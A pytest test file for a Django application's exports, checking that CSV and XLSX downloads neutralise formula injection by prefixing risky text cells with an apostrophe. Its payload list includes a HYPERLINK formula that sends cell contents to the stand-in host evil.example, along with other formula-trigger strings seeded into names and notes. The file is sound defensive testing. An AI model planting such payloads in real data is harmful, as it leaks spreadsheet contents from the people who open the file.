"""Every CSV and XLSX export neutralises formulas in every text cell (CSV / formula injection).

Each export is downloaded through its real view with hostile names and notes in the database, read
back with openpyxl or csv, and no cell may be a formula or start with a character that a
spreadsheet runs.
"""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from annuaire.models import Domaine
from budget import services as budget_services
from budget.models import Export
from candidatures.models import Message
from core.exports import FORMULA_TRIGGERS, neutralise_formula, neutralise_row, workbook_bytes
from tests.budget.conftest import seance_livree
from tests.factories import (
    AccompagnementFactory,
    CandidatureFactory,
    CompetenceFactory,
    ProgrammeFactory,
    StructureFactory,
    siege_comite,
)

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")'
PAYLOADS = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "＝1+1", "＠SUM(A1)"]
PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"


def _is_safe_text(value) -> bool:
    return not isinstance(value, str) or not value.startswith(FORMULA_TRIGGERS) or neutralise_formula(value) == value


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_text_a_spreadsheet_would_run_gets_an_apostrophe(payload):
    assert neutralise_formula(payload) == "'" + payload


def test_numbers_dates_and_plain_texts_stay_what_they_are():
    today = datetime.date(2026, 4, 2)
    row = [Decimal("-12.50"), -3, 2.5, today, None, True, "Festival des Suds", "-12", "3,5", "", "'déjà"]
    assert neutralise_row(row) == row


def test_openpyxl_would_store_a_hostile_text_as_a_formula_and_workbook_bytes_does_not():
    workbook = Workbook()
    workbook.active.append(PAYLOADS)
    assert workbook.active["A1"].data_type == "f"  # what the export did before
    reread = load_workbook(io.BytesIO(workbook_bytes(workbook))).active
    assert [cell.data_type for cell in reread[1]] == ["s"] * len(PAYLOADS)
    # (XML turns the leading carriage return into a line feed on the way back: still text, still prefixed.)
    assert [cell.value[0] for cell in reread[1]] == ["'"] * len(PAYLOADS)
    assert reread["A1"].value == "'" + HYPERLINK


@pytest.mark.django_db(transaction=True)  # the export job starts once the request's transaction commits
def test_the_ledger_workbook_holds_no_formula(client, coordinateur, membre_comite, figure):
    programme = ProgrammeFactory(nom=HYPERLINK)
    structure = StructureFactory(raison_sociale=HYPERLINK)
    accompagnement = AccompagnementFactory(
        candidature=CandidatureFactory(programme=programme, structure=structure, etat="selectionnee"),
        demi_journees_prevues=4,
    )
    budget_services.engagement_create(accompagnement=accompagnement, montant=Decimal("1000.00"), libelle="+1+1", by=coordinateur)
    seance_livree(accompagnement, 2)
    budget_services.paiement_create(
        accompagnement=accompagnement,
        structure=accompagnement.mentors.get().structure,
        date_paiement=datetime.date(2026, 4, 2),
        montant=Decimal("500.00"),
        reference_facture="-2+3",
        note="@SUM(A1)",
        by=coordinateur,
    )
    budget_services.autre_depense_create(
        programme=programme,
        categorie="essaimage",
        libelle=HYPERLINK,
        date_depense=datetime.date(2026, 5, 1),
        montant=Decimal("12.00"),
        justificatif=SimpleUploadedFile("j.pdf", PDF),
        note="\t=1+1",
        by=coordinateur,
    )
    siege_comite(membre_comite, programme)
    client.force_login(membre_comite)  # the comité downloads it too
    client.post(reverse("budget:export_request", args=[programme.pk]), {"type_export": "tableur_xlsx"})
    export = Export.objects.get()
    assert export.etat == "pret", export.__dict__
    download = client.get(reverse("budget:export_download", args=[export.pk]))
    workbook = load_workbook(io.BytesIO(b"".join(download.streaming_content)))

    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert [cell.value for cell in cells if not _is_safe_text(cell.value)] == []
    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
    # Each hostile value is there, as text, so nothing was lost on the way.
    assert {"'" + HYPERLINK, "'+1+1", "'-2+3", "'@SUM(A1)", "'\t=1+1"} <= texts
    # Numbers stay numbers.
    assert workbook["Paiements"]["E2"].value == 500
    figure(f"ledger workbook: {len(cells)} cells read back, 0 formulas")


def test_the_skills_map_csv_holds_no_formula(client, membre_comite):
    domaine = Domaine.objects.create(nom="@SUM(A1)", slug="hostile")
    for payload in (HYPERLINK, "+1+1", "-2+3"):
        CompetenceFactory(domaine=domaine, nom=payload)
    client.force_login(membre_comite)
    response = client.get(reverse("annuaire:cartographie_csv"))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert [value for row in rows for value in row if not _is_safe_text(value)] == []
    hostile = [row[:2] for row in rows if row[0] == "'@SUM(A1)"]
    assert sorted(hostile) == sorted([["'@SUM(A1)", "'" + HYPERLINK], ["'@SUM(A1)", "'+1+1"], ["'@SUM(A1)", "'-2+3"]])
    assert any(row[2].isdigit() for row in rows[1:])  # counts stay plain numbers


def test_the_personal_data_csv_holds_no_formula(client, candidat):
    candidat.first_name, candidat.last_name = HYPERLINK, "+1+1"
    candidat.save()
    candidature = CandidatureFactory(candidat=candidat, structure=StructureFactory(raison_sociale="-2+3"))
    Message.objects.create(candidature=candidature, auteur=candidat, texte="@SUM(A1)")
    client.force_login(candidat)
    response = client.get(reverse("accounts:export_mes_donnees", args=["csv"]))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    values = [value for row in rows for value in row]
    assert [value for value in values if not _is_safe_text(value)] == []
    assert {"'" + HYPERLINK, "'+1+1", "'@SUM(A1)"} <= set(values)
